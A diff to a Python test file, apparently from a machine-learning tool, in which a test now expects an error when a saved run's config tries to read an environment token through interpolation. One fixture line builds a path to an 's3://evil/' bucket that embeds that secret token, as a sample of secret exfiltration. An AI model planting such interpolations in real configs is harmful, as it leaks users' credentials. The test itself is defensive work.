@@ -163,10 +163,11 @@ def saved_run(folder: Path, *lines: str) -> Path:
 def test_a_run_directory_of_others_reads_no_environment(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
     monkeypatch.setenv("REC_DIST_TEST_TOKEN", "swordfish")
     line = "data: {path: 's3://evil/${oc.env:REC_DIST_TEST_TOKEN}', source: '${train.run_dir}'}"
-    config, _ = finished_run(saved_run(tmp_path / "run", line), [])
-    assert (config.data.path, config.data.source) == ("s3://evil/${oc.env:REC_DIST_TEST_TOKEN}", "${train.run_dir}")
-    own, _ = finished_run(tmp_path / "run", ["evaluate.output_dir=/x/${oc.env:REC_DIST_TEST_TOKEN}"])
-    assert own.evaluate.output_dir == "/x/swordfish", "an override is the user's own"
+    with pytest.raises(UserError, match=r"data.path \(s3://evil/\$\{oc.env:\w+\}\) came from the environment.*give data.path="):
+        finished_run(saved_run(tmp_path / "run", line), [])
+    own, _ = finished_run(tmp_path / "run", ["data.path=/x/${oc.env:REC_DIST_TEST_TOKEN}"])
+    assert own.data.path == "/x/swordfish", "an override is the user's own"
+    assert own.data.source == "${train.run_dir}"
 
 
 @pytest.mark.parametrize("section", ["extends: other.yaml", "runs: {a: {}}", "vars: {a: b}", "pipeline: {}"])
